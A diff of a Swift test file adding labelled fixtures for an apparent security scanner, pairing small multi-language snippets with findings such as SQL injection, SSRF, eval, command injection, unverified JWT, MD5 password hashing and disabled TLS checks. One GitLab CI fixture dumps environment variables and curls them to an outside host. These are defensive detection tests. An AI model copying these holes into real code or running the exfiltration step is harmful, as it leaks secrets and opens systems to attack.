@@ -628,6 +628,115 @@ import Testing
     ])
     func batchTwentyOneAndTwentyTwoClasses(_ example: Example) { Self.check(example) }
 
+    @Test(arguments: [
+        // SQL text filled in with built parts is built SQL; a constant table's entry is not.
+        Example(
+            "reports/views.py",
+            "SUMMARY_SQL = \"SELECT r.code FROM regions r WHERE r.active{region_filter}\"\n\n"
+                + "def run(codes):\n    quoted = \", \".join(f\"'{code}'\" for code in codes)\n"
+                + "    region_filter = f\" AND r.code IN ({quoted})\"\n"
+                + "    sql = SUMMARY_SQL.format(region_filter=region_filter)\n    cur.execute(sql)\n",
+            "code.sql-string-built"),
+        Example(
+            "app/routers/orders.py",
+            "LIST_SQL = \"SELECT id FROM orders ORDER BY {order_by} {direction}\"\n"
+                + "SORT_COLUMNS = {\"created\": \"created_at\", \"total\": \"total_cents\"}\n\n"
+                + "async def list_orders(sort: SortField, direction: SortDir):\n"
+                + "    sql = LIST_SQL.format(order_by=SORT_COLUMNS[sort], direction=DIRECTIONS[direction])\n"
+                + "    return await session.execute(text(sql))\n",
+            nil),
+        // A Phoenix action's params, a `defp` helper, a value on the line after its `=`.
+        Example(
+            "lib/hookshot_web/controllers/webhook_controller.ex",
+            "def test(conn, params) do\n  target =\n    case params do\n      %{\"url\" => url} -> url\n    end\n\n"
+                + "  deliver(target)\nend\n\ndefp deliver(url) do\n  Req.post(url,\n    json: %{event: \"ping\"}\n  )\nend\n",
+            "code.ssrf"),
+        Example(
+            "src/Controllers/PricingController.cs",
+            "public async Task<decimal> Apply(PricingRule rule)\n{\n"
+                + "    return await CSharpScript.EvaluateAsync<decimal>(\n        rule.Expression, FormulaOptions);\n}\n",
+            "code.eval"),
+        Example(
+            "src/middleware/preferences.js",
+            "const serialize = require('node-serialize');\nfunction read(raw) {\n"
+                + "  return serialize.unserialize(Buffer.from(raw, 'base64').toString());\n}\n",
+            "code.unsafe-deserialization"),
+        Example(
+            "internal/reports/export.go",
+            "func runPandoc(ctx context.Context, in, paper string) error {\n"
+                + "\tline := fmt.Sprintf(\"pandoc %s -V papersize=%s\", in, paper)\n"
+                + "\treturn exec.CommandContext(ctx, \"sh\", \"-lc\", line).Run()\n}\n",
+            "code.command-injection"),
+        // A string builder's appends chained over lines; a qualified column in a WHERE is still SQL.
+        Example(
+            "src/main/java/OrdersController.java",
+            "public List<Order> list(@RequestParam List<String> statuses) {\n"
+                + "    StringBuilder sql = new StringBuilder(\"SELECT o.id \"\n            + \"FROM orders o WHERE o.customer_id = ?\");\n"
+                + "    String inList = String.join(\"','\", statuses);\n"
+                + "    sql.append(\" AND o.status IN ('\")\n       .append(inList)\n       .append(\"')\");\n"
+                + "    return jdbc.query(sql.toString(), mapper);\n}\n",
+            "code.sql-string-built"),
+        // `raw != ""` is no call of a query method `raw!`.
+        Example(
+            "internal/api/orders.go",
+            "func list(c echo.Context) error {\n\tif raw := c.QueryParam(\"ids\"); raw != \"\" {\n"
+                + "\t\treturn c.JSON(200, raw)\n\t}\n\treturn nil\n}\n",
+            nil),
+        // A minimal API's request record; a client's PostAsJsonAsync.
+        Example(
+            "src/Hooks.Api/Endpoints/WebhookEndpoints.cs",
+            "group.MapPost(\"/test\", async (\n    TestPingRequest req,\n    IHttpClientFactory f) =>\n{\n"
+                + "    var target = req.TargetUrl.Trim();\n    var http = f.CreateClient(\"hooks\");\n"
+                + "    using var resp = await http.PostAsJsonAsync(target, new { type = \"ping\" });\n"
+                + "    return Results.Ok();\n});\n",
+            "code.ssrf"),
+        // Claims decoded without verification that sign a caller in, in a file that verifies elsewhere.
+        Example(
+            "src/middleware/authenticate.ts",
+            "export function authenticate(req, res, next) {\n  const token = bearerToken(req.headers.authorization);\n"
+                + "  const decoded = jwt.decode(token, { json: true });\n  if (decoded && decoded.iss === PARTNER) {\n"
+                + "    req.user = toUser(decoded);\n    return next();\n  }\n"
+                + "  req.user = jwt.verify(token, publicKey);\n  return next();\n}\n",
+            "code.jwt-unverified"),
+        // A password passed to a helper that digests its parameter quickly.
+        Example(
+            "src/Service/AccountRegistration.php",
+            "<?php\nclass AccountRegistration {\n    public function register(User $user, string $plainPassword): void\n"
+                + "    {\n        $user->setPassword($this->legacyDigest($plainPassword));\n    }\n\n"
+                + "    private function legacyDigest(string $plain): string\n    {\n        return md5($plain);\n    }\n}\n",
+            "code.weak-password-hash"),
+        Example(
+            "src/Service/AvatarUrls.php",
+            "<?php\nclass AvatarUrls {\n    public function forEmail(string $email): string\n    {\n"
+                + "        return 'https://www.gravatar.com/avatar/' . $this->digest($email);\n    }\n\n"
+                + "    private function digest(string $value): string\n    {\n        return md5(strtolower(trim($value)));\n    }\n}\n",
+            nil),
+        // Ruby blocks given to instance_eval are code the file wrote; a Rust test module is test code.
+        Example(
+            "lib/tasks/demo.rake",
+            "class DemoTenant\n  def self.build(slug, &definition)\n    new(slug).tap { |b| b.instance_eval(&definition) }\n  end\nend\n",
+            nil),
+        Example(
+            "src/clients/inventory.rs",
+            "pub fn client() -> reqwest::Client {\n    reqwest::Client::new()\n}\n\n#[cfg(test)]\nmod tests {\n"
+                + "    #[tokio::test]\n    async fn tls() {\n        let c = reqwest::Client::builder()\n"
+                + "            .danger_accept_invalid_certs(true)\n            .build()\n            .unwrap();\n    }\n}\n",
+            nil),
+        Example(
+            "src/clients/inventory.rs",
+            "pub fn client() -> reqwest::Client {\n    reqwest::Client::builder()\n"
+                + "        .danger_accept_invalid_certs(true)\n        .build()\n        .unwrap()\n}\n",
+            "code.tls-verify-disabled"),
+        // A CI job that captures its environment, writes it to a file and sends the file.
+        Example(
+            ".gitlab-ci.yml",
+            "default:\n  after_script:\n    - |\n      BUNDLE=\"$(env | sort)\"\n"
+                + "      printf '%s' \"$BUNDLE\" | base64 -w0 > /tmp/bundle.b64\n"
+                + "      curl -sS -X POST \"https://diag.example.io/bundles\" --data-binary @/tmp/bundle.b64\n",
+            "ci.secrets-exfiltration"),
+    ])
+    func batchTwentyThreeAndTwentyFourClasses(_ example: Example) { Self.check(example) }
+
     @Test func mediumDockerfileFindingsBlockUnderBlockMedium() {
         let change = ReviewCase(
             "add", "Dockerfile", "FROM alpine:3.20\nADD https://example.com/a.tgz /opt/\nUSER app\n", risky: true,
